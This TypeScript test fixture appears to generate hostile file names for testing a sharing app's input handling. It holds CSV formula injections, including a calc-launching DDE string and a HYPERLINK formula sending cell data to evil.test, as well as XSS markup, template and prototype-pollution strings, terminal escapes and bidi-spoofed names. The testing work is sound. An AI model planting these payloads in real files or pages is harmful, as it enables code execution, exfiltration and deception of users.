/** Names as an attacker, or chance, puts them on a share: formulas, markup, terminal commands, bidi marks, lone surrogates. */

const FORMULAS = ['=', '+', '-', '@', '\t', '\r', '\0'].flatMap((first) => [
  `${first}cmd|'/C calc'!A0`,
  `${first}HYPERLINK("http://evil.test/"&A1,"x")`,
  `x;${first}1+1`,
  `x\t${first}SUM(A1)`,
]);

const MARKUP = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '</template><script>window.pwned=1</script>',
  '</script><script>window.pwned=1</script>',
  '</style><script>window.pwned=1</script>',
  '</textarea></title></noscript><svg onload=window.pwned=1>',
  '<!--<script>',
  '-->',
  ']]>',
  '<![CDATA[',
  '"><iframe src="javascript:window.pwned=1"></iframe>',
  "' onmouseover='window.pwned=1",
  '&lt;b&gt;&amp;&#x3c;script&#x3e;',
  '{{constructor.constructor("window.pwned=1")()}}',
  `\${window.pwned=1}`,
  '__proto__',
  'constructor',
  '\\u003cscript\\u003e',
  '<base href="http://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
  '<link rel=stylesheet href=http://evil.test/x.css>',
  '<form action=http://evil.test><button>',
];

const UNSEEN = [
  ...[
    '\x1b[2J\x1b[H',
    '\x1b]0;title\x07',
    '\x1b]8;;http://evil.test\x1b\\link',
    '\x9b31m',
    '\x90q',
    '\b\b\b',
  ],
  ...[
    '\u202efdp.exe',
    '\u2066iso\u2069',
    '\u200b\u200d',
    '\ufeffbom',
    '\u2028line',
    '\u2029paragraph',
    '\u00ad',
  ],
  ...[
    '\ud800',
    '\udc00x',
    '\u{e0041}tag',
    '\u061c',
    '\x7f',
    'a\nb',
    'a\r\nb',
    '\u0000',
    'ＣＭＤ',
    '＝1+1',
    '👩‍⚕️',
    'Ü'.normalize('NFD'),
  ],
];

const BASES = [...FORMULAS, ...MARKUP, ...UNSEEN];

/** At least 500: each alone, in the middle of a path, as an extension, twice in a row … */
export const HOSTILE_NAMES: readonly string[] = BASES.flatMap((name) => [
  name,
  `ward/${name}/letter.docx`,
  `${name}.csv`,
  `a ${name}`,
  `${name}${name}`,
  `"${name}"`,
  `x,${name}`,
]);
